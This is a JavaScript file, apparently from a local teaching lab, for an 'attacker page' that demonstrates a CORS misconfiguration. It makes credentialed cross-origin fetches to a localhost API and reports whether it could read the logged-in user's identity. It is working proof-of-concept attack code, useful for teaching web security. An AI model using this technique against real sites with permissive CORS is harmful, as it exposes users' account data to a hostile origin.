// The attacker page: reads who you are from the API, with your cookies, from an
// origin of its own. Plain JavaScript, loaded from this origin only (see the
// Content-Security-Policy the lab server sends with the page).
"use strict";

/** Where the API is when /config.json cannot be read. */
const DEFAULT_API = "http://localhost:8000";

/** Each attack: the path it reads, and the element its result goes to. */
const ATTACKS = {
  exhibit: { path: "/exhibits/reflect-any-origin", testid: "attack-exhibit" },
  api: { path: "/api/whoami", testid: "attack-api" },
};

async function apiBase() {
  try {
    const response = await fetch("/config.json", { cache: "no-store" });
    const config = await response.json();
    return config.api_base_url.replace(/\/+$/, "");
  } catch (error) {
    return DEFAULT_API;
  }
}

/** What the page got from one credentialed fetch: an outcome and the text to show. */
async function attack(url) {
  let response;
  try {
    response = await fetch(url, { credentials: "include", cache: "no-store" });
  } catch (error) {
    return {
      outcome: "refused",
      text:
        `${error.name}: ${error.message}. The browser refused to hand this page the ` +
        "answer (DevTools' console says why). Nothing was stolen.",
    };
  }
  const body = await response.text();
  let user = null;
  try {
    user = JSON.parse(body).user || null;
  } catch (error) {
    // not JSON: no user in it
  }
  if (response.ok && user) {
    return {
      outcome: "stolen",
      user,
      text:
        `Read ${response.status}: ${body}. This page now knows you are "${user}": your ` +
        "cookie went along, and the answer allowed this origin to read it.",
    };
  }
  if (response.status === 401) {
    return {
      outcome: "not-logged-in",
      text:
        `Read 401: ${body}. The answer was readable, but no cookie came with the ` +
        "request: you are not logged in, or SameSite kept the cookie home.",
    };
  }
  return {
    outcome: "unexpected",
    text: `Read ${response.status}: ${body}. Is the backend running under ENV=development?`,
  };
}

async function run(name, base) {
  const { path, testid } = ATTACKS[name];
  const output = document.querySelector(`[data-testid="${testid}"]`);
  delete output.dataset.outcome;
  delete output.dataset.user;
  output.textContent = `GET ${base}${path} …`;
  const result = await attack(base + path);
  if (result.user) output.dataset.user = result.user;
  output.textContent = result.text;
  output.dataset.outcome = result.outcome;
}

/** This page under another name of this machine: `localhost` or `127.0.0.1`. */
function sameSpotOn(host) {
  return `${location.protocol}//${host}${location.port ? ":" + location.port : ""}`;
}

async function main() {
  document.querySelector('[data-testid="attack-origin"]').textContent = location.origin;
  for (const link of document.querySelectorAll("[data-host]")) {
    link.href = sameSpotOn(link.dataset.host) + "/";
    link.textContent = sameSpotOn(link.dataset.host);
  }
  const base = await apiBase();
  document.querySelector("[data-api]").textContent = base;
  for (const button of document.querySelectorAll("[data-run]")) {
    button.addEventListener("click", () => run(button.dataset.run, base));
  }
  await Promise.all(Object.keys(ATTACKS).map((name) => run(name, base)));
}

main();
